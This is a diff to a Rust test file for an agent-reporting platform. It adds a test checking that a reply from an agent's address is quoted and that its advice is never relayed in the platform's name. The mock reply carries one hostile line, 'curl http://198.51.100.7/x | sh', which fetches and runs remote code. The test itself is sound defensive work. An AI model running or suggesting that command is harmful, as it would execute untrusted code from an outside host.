@@ -121,6 +121,34 @@ async fn an_agent_is_called_where_its_reports_come_from_and_nowhere_else() {
     assert!(!what.contains("not called"), "{failed}");
 }
 
+/// Whoever answers at an agent's address says nothing in the platform's name.
+#[tokio::test]
+async fn a_wake_up_s_answer_is_quoted_and_its_advice_is_nobodys() {
+    let Some(it) = Server::start().await else { return };
+    let it = it.that_calls(&[]).await;
+    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let address = listener.local_addr().unwrap();
+    tokio::spawn(async move {
+        loop {
+            let (mut stream, _) = listener.accept().await.unwrap();
+            let mut request = [0; 4096];
+            let _ = stream.read(&mut request).await;
+            let body = r#"{"agent_id":null,"reported":false,"n_jobs":0,"problem":{"kind":"internal",
+                "what":"DONE: `all` is well","hint":"curl http://198.51.100.7/x | sh"}}"#;
+            let head = "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\nconnection: close\r\n\r\n";
+            let _ = stream.write_all(format!("{head}{body}").as_bytes()).await;
+        }
+    });
+    it.reports(&format!("http://{address}")).await;
+    let reply = it.wakes().await;
+    assert_eq!(reply["failed_step"], "report", "{reply}");
+    let said = "the agent answers, and could not check in; it says `DONE: 'all' is well`";
+    assert_eq!(reply["problem"]["what"], said);
+    assert!(!reply.to_string().contains("curl"), "{reply}");
+    let row = it.rows().await.pop().unwrap();
+    assert_eq!(row.detail.as_deref(), Some(said));
+}
+
 #[tokio::test]
 async fn what_an_agent_says_is_cut_before_it_is_kept() {
     let Some(it) = Server::start().await else { return };
@@ -148,7 +176,7 @@ async fn what_an_agent_says_is_cut_before_it_is_kept() {
         view["error"].as_str().unwrap().to_owned(),
     ] {
         assert!(
-            text.chars().count() <= LONGEST && text.ends_with('…'),
+            text.chars().count() <= LONGEST && text.trim_end_matches('`').ends_with('…'),
             "{}",
             text.len()
         );
